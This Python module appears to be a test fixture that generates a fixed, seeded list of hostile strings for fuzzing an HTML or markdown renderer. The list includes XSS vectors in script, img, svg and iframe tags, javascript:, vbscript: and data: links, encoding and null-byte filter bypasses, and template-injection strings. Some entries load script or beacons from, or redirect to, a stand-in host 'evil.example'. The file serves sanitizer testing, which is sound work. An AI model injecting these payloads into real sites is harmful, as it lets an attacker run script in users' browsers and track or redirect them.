"""Texts that would run a script or fetch something if the page took them for anything but text."""

from __future__ import annotations

import random
from itertools import product

_SCRIPTS = (
    "parent.hits=(parent.hits||0)+1",
    "window.hits=1",
    "alert(1)",
    "import('//evil.example/x')",
)
_TEMPLATES = (
    "<script>{}</script>",
    "<img src=x onerror=\"{}\">",
    "<img src='http://evil.example/beacon.png'>",
    "<svg onload=\"{}\">",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=http://evil.example></iframe>",
    "<a href=\"javascript:{}\">x</a>",
    "<details open ontoggle=\"{}\">",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<form action=http://evil.example><input autofocus onfocus={}>",
    "<video><source onerror=\"{}\">",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}>",
    "[x](javascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "[x]( javascript\t:{} )",
    "[x](JaVaScRiPt&colon;{})",
    "<javascript:{}>",
    "![x](http://evil.example/beacon.png)",
    "![x](javascript:{})",
    "![x](data:image/svg+xml,<svg onload={}>)",
    "[x]: javascript:{}\n\n[x]",
    "```\"><script>{}</script>\ncode\n```",
    "```html\n<script>{}</script>\n```",
    "`<img src=x onerror={}>`",
    "| <img src=x onerror={}> | b |\n|---|---|\n| [x](javascript:{}) | c |",
    "- [ ] <script>{}</script>",
    "# <img src=x onerror={}>",
    "> <svg/onload={}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\<script>{}\\</script>",
    "<http://evil.example/\"onmouseover=\"{}>",
    "[x](<http://evil.example/\" onmouseover=\"{}>)",
    "[x](http://a.example \"t\" onclick={})",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--></style></script><script>{}</script>",
    "\u202e<script>{}</script>",
    "\x00<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<a href=\"&#x6A;avascript:{}\">x</a>",
    "<button popovertarget=x onclick={}>",
    "<img srcset='http://evil.example/a 1x'>",
)  # fmt: skip
_AROUND = (
    "{}",
    "**{}**",
    "x {} y",
    "\n\n{}\n\n",
    "1. {}",
    "*{}",
    "[{}](http://a.example)",
    "~~{}~~",
)


def hostile_strings(count: int) -> list[str]:
    """The same strings each time: all the templates first, then ones that are joined and cut."""
    chance = random.Random(33)
    strings = [
        around.format(template.replace("{}", script))
        for around, script, template in product(_AROUND, _SCRIPTS, _TEMPLATES)
    ]
    while len(strings) < count:
        one, other = chance.choice(strings), chance.choice(strings)
        at = chance.randint(0, len(one))
        strings.append(one[:at] + other + one[at:])
    chance.shuffle(strings)
    return strings[:count]
